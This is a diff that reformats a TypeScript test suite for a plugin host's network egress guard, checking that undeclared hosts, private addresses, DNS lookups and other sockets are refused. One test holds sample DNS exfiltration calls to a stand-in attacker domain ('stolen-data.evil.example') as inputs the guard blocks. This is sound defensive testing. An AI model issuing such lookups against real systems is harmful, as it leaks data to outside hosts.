@@ -21,7 +21,10 @@ interface Emitter {
 }
 
 /** Resolves when the emitter is ready, rejects with its error. */
-function settled(emitter: Emitter & { on(event: string, listener: (value: unknown) => void): unknown }, ...ready: readonly string[]): Promise<unknown> {
+function settled(
+  emitter: Emitter & { on(event: string, listener: (value: unknown) => void): unknown },
+  ...ready: readonly string[]
+): Promise<unknown> {
   return new Promise((resolve, reject) => {
     for (const event of ready) emitter.on(event, resolve);
     emitter.on('error', reject);
@@ -49,7 +52,11 @@ function waysOut(host: string, port: number): Readonly<Record<string, (call: Cal
     'net.connect': () => settled(net.connect(port, host), 'connect'),
     'net.connect with options': () => settled(net.connect({ port, host, family: 4 }), 'connect'),
     'new Socket().connect': () => settled(new net.Socket().connect(port, host), 'connect'),
-    'net.connect with its own lookup': () => settled(net.connect({ port, host, lookup: (_host, _options, callback) => callback(null, [{ address: '127.0.0.1', family: 4 }]) }), 'connect'),
+    'net.connect with its own lookup': () =>
+      settled(
+        net.connect({ port, host, lookup: (_host, _options, callback) => callback(null, [{ address: '127.0.0.1', family: 4 }]) }),
+        'connect',
+      ),
     'tls.connect': () => settled(tls.connect({ port, host, rejectUnauthorized: false }), 'secureConnect'),
     'http2.connect': async () => settled(http2.connect(url), 'connect'),
   };
@@ -69,7 +76,11 @@ describe('the guard on sockets', () => {
     await server.close();
   });
 
-  async function run(handler: (call: Call) => Promise<unknown>, manifest: JsonObject = {}, network: { readonly allow?: readonly string[] } = {}) {
+  async function run(
+    handler: (call: Call) => Promise<unknown>,
+    manifest: JsonObject = {},
+    network: { readonly allow?: readonly string[] } = {},
+  ) {
     fixture = await startHost([oneAction((_, call) => handler(call), manifest)], { network });
     return (await fixture.host.runAction('acme', fixture.action('probe.go'), {}, RUN)).output;
   }
@@ -78,32 +89,54 @@ describe('the guard on sockets', () => {
     it(`refuses a host that is not declared through ${name}`, async () => {
       // The operator's leave does not stand for the plugin's declaration.
       const way = waysOut('localhost', server.port)[name];
-      await assert.rejects(run((call) => way?.(call) ?? Promise.resolve(), {}, { allow: [`localhost:${server.port}`] }), { code: 'EGRESS_DENIED' });
+      await assert.rejects(
+        run((call) => way?.(call) ?? Promise.resolve(), {}, { allow: [`localhost:${server.port}`] }),
+        { code: 'EGRESS_DENIED' },
+      );
       assert.equal(server.requests.length, 0);
     });
 
     it(`refuses a private address of a declared host through ${name}`, async () => {
       const way = waysOut('localhost', server.port)[name];
-      await assert.rejects(run((call) => way?.(call) ?? Promise.resolve(), { permissions: { hosts: [`localhost:${server.port}`] } }), { code: 'EGRESS_DENIED' });
+      await assert.rejects(
+        run((call) => way?.(call) ?? Promise.resolve(), { permissions: { hosts: [`localhost:${server.port}`] } }),
+        { code: 'EGRESS_DENIED' },
+      );
       assert.equal(server.requests.length, 0);
     });
   }
 
-  for (const name of ['global fetch', 'a fetch kept from before', 'the fetch of a package', 'http.get', 'http.get with its own agent', 'http.get through call.agent', 'net.connect', 'net.connect with options']) {
+  for (const name of [
+    'global fetch',
+    'a fetch kept from before',
+    'the fetch of a package',
+    'http.get',
+    'http.get with its own agent',
+    'http.get through call.agent',
+    'net.connect',
+    'net.connect with options',
+  ]) {
     it(`lets through what is declared and allowed: ${name}`, async () => {
       const place = `localhost:${server.port}`;
       const way = waysOut('localhost', server.port)[name];
-      await run(async (call) => {
-        await way?.(call);
-        return null;
-      }, { permissions: { hosts: [place] } }, { allow: [place] });
+      await run(
+        async (call) => {
+          await way?.(call);
+          return null;
+        },
+        { permissions: { hosts: [place] } },
+        { allow: [place] },
+      );
     });
   }
 
   it('refuses names to resolve, local sockets and datagrams', async () => {
     const refused: readonly ((call: Call) => Promise<unknown>)[] = [
       () => new Promise((resolve, reject) => dns.lookup('evil.example', (error, address) => (error ? reject(error) : resolve(address)))),
-      () => new Promise((resolve, reject) => dns.resolveTxt('stolen-data.evil.example', (error, answer) => (error ? reject(error) : resolve(answer)))),
+      () =>
+        new Promise((resolve, reject) =>
+          dns.resolveTxt('stolen-data.evil.example', (error, answer) => (error ? reject(error) : resolve(answer))),
+        ),
       () => dns.promises.lookup('evil.example'),
       () => dns.promises.resolve4('evil.example'),
       () => new dns.promises.Resolver().resolveTxt('evil.example'),
@@ -126,9 +159,12 @@ describe('the guard on sockets', () => {
       return null;
     };
     const allowed = oneAction(read, { permissions: { hosts: [place] } });
-    const other = source({ id: 'other', contributes: { actions: { go: { title: 'Go', effect: 'read', input: { type: 'object' }, output: true } } } }, (host) => {
-      host.action('go', read as never);
-    });
+    const other = source(
+      { id: 'other', contributes: { actions: { go: { title: 'Go', effect: 'read', input: { type: 'object' }, output: true } } } },
+      (host) => {
+        host.action('go', read as never);
+      },
+    );
     fixture = await startHost([allowed, other], { network: { allow: [place] } });
     await fixture.host.runAction('acme', fixture.action('probe.go'), {}, RUN);
     assert.equal(Object.keys(agent.freeSockets).length, 1);
@@ -138,24 +174,38 @@ describe('the guard on sockets', () => {
 
   it('tells two tenants in the same process apart, call by call', async () => {
     const place = `localhost:${server.port}`;
-    fixture = await startHost([
-      oneAction(async () => {
-        await new Promise((resolve) => setImmediate(resolve));
-        const response = (await settled(http.get(`http://${place}/`), 'response')) as http.IncomingMessage;
-        response.resume();
-        await fetch(`http://${place}/`).then((answer) => answer.text());
-        await settled(net.connect(server.port, 'localhost'), 'connect');
-        return 'reached';
-      }, { permissions: { hosts: [{ connectionField: 'url' }], connections: [] }, connections: { account: { type: 'custom', title: 'Account', schema: { type: 'object' } } } }),
-    ], { network: { allow: [place] } });
+    fixture = await startHost(
+      [
+        oneAction(
+          async () => {
+            await new Promise((resolve) => setImmediate(resolve));
+            const response = (await settled(http.get(`http://${place}/`), 'response')) as http.IncomingMessage;
+            response.resume();
+            await fetch(`http://${place}/`).then((answer) => answer.text());
+            await settled(net.connect(server.port, 'localhost'), 'connect');
+            return 'reached';
+          },
+          {
+            permissions: { hosts: [{ connectionField: 'url' }], connections: [] },
+            connections: { account: { type: 'custom', title: 'Account', schema: { type: 'object' } } },
+          },
+        ),
+      ],
+      { network: { allow: [place] } },
+    );
     const { host, action } = fixture;
     const connection = (url: string) => ({ name: 'c', kind: 'account', isSandbox: true, values: { url } });
-    const results = await Promise.allSettled(Array.from({ length: 20 }, (_, index) =>
-      index % 2 === 0
-        ? host.runAction('acme', action('probe.go'), {}, { ...RUN, connection: connection(`http://${place}`) })
-        : host.runAction('globex', action('probe.go'), {}, { ...RUN, connection: connection('https://elsewhere.example') }),
-    ));
-    assert.deepEqual(results.map((result) => (result.status === 'fulfilled' ? result.value.output : (result.reason as { code: string }).code)), Array.from({ length: 10 }, () => ['reached', 'EGRESS_DENIED']).flat());
+    const results = await Promise.allSettled(
+      Array.from({ length: 20 }, (_, index) =>
+        index % 2 === 0
+          ? host.runAction('acme', action('probe.go'), {}, { ...RUN, connection: connection(`http://${place}`) })
+          : host.runAction('globex', action('probe.go'), {}, { ...RUN, connection: connection('https://elsewhere.example') }),
+      ),
+    );
+    assert.deepEqual(
+      results.map((result) => (result.status === 'fulfilled' ? result.value.output : (result.reason as { code: string }).code)),
+      Array.from({ length: 10 }, () => ['reached', 'EGRESS_DENIED']).flat(),
+    );
   });
 
   it('holds in callbacks of a response, in timers, and after the call has ended', async () => {
@@ -167,27 +217,38 @@ describe('the guard on sockets', () => {
       attempt.catch(() => undefined);
       attempts.push(attempt);
     };
-    await run(async (call) => {
-      const agents: readonly (http.Agent | undefined)[] = [httpAgentOf(call), undefined];
-      for (const agent of agents) {
-        const request = http.get(`http://${place}/`, agent === undefined ? {} : { agent });
-        const response = (await settled(request, 'response')) as http.IncomingMessage;
-        response.once('data', connect);
-        await new Promise((resolve) => response.on('end', resolve));
-      }
-      setImmediate(connect);
-      setTimeout(connect, 20);
-      return null;
-    }, { permissions: { hosts: [place] } }, { allow: [place] });
+    await run(
+      async (call) => {
+        const agents: readonly (http.Agent | undefined)[] = [httpAgentOf(call), undefined];
+        for (const agent of agents) {
+          const request = http.get(`http://${place}/`, agent === undefined ? {} : { agent });
+          const response = (await settled(request, 'response')) as http.IncomingMessage;
+          response.once('data', connect);
+          await new Promise((resolve) => response.on('end', resolve));
+        }
+        setImmediate(connect);
+        setTimeout(connect, 20);
+        return null;
+      },
+      { permissions: { hosts: [place] } },
+      { allow: [place] },
+    );
     await new Promise((resolve) => setTimeout(resolve, 60));
-    const codes = (await Promise.allSettled(attempts)).map((result) => (result.status === 'rejected' ? (result.reason as { code: string }).code : 'reached'));
+    const codes = (await Promise.allSettled(attempts)).map((result) =>
+      result.status === 'rejected' ? (result.reason as { code: string }).code : 'reached',
+    );
     await other.close();
     assert.deepEqual(codes, ['EGRESS_DENIED', 'EGRESS_DENIED', 'CALL_ENDED', 'CALL_ENDED']);
   });
 
   it('leaves everything outside of calls alone, before and after', async () => {
     fixture = await startHost([]);
-    for (const way of [() => settled(net.connect(server.port, '127.0.0.1'), 'connect'), () => fetch(`http://127.0.0.1:${server.port}/`), () => dns.promises.lookup('localhost')]) await way();
+    for (const way of [
+      () => settled(net.connect(server.port, '127.0.0.1'), 'connect'),
+      () => fetch(`http://127.0.0.1:${server.port}/`),
+      () => dns.promises.lookup('localhost'),
+    ])
+      await way();
     await fixture.host.stop();
     assert.equal(globalThis.fetch, keptFetch);
     await settled(net.connect(server.port, '127.0.0.1'), 'connect');
